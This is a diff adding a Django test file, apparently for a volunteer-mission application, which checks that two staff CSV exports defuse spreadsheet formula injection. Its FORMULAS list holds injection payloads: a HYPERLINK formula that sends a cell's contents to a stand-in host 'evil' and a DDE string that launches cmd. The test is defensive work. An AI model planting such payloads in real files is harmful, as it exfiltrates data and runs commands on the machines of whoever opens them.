@@ -1,0 +1,40 @@
+"""The findings of the hostile review (issue 12): each test failed on the code as it was."""
+
+import csv
+import io
+
+from django.urls import reverse
+
+from missions import services
+from tests.factories import (
+    ApplicationFactory,
+    CallFactory,
+    ContingentFactory,
+    MissionFactory,
+    ProfileFactory,
+)
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&B2,"Voir")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "-2+3"]
+
+
+def _rows(response) -> list[list[str]]:
+    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_exports_disarm_formulas_in_every_text_cell(manager_client, manager):
+    mission = MissionFactory(title=FORMULAS[2], city=FORMULAS[3])
+    call = CallFactory(missions=[mission])
+    application = ApplicationFactory(call=call, status="shortlisted")
+    ProfileFactory(user=application.volunteer, last_name=FORMULAS[0], first_name=FORMULAS[1])
+    contingent = ContingentFactory(call=call, partner=mission.partner)
+    services.add_to_contingent(contingent, actor=manager, application=application, mission=mission)
+
+    export = _rows(manager_client.get(reverse("staff:applications_export")))
+    roster = _rows(manager_client.get(reverse("staff:contingent_roster", args=[contingent.pk])))
+
+    assert export[1][2:4] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
+    assert roster[1][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
+    assert roster[1][4:6] == ["'" + FORMULAS[2], "'" + FORMULAS[3]]
+    cells = [cell for row in export + roster for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
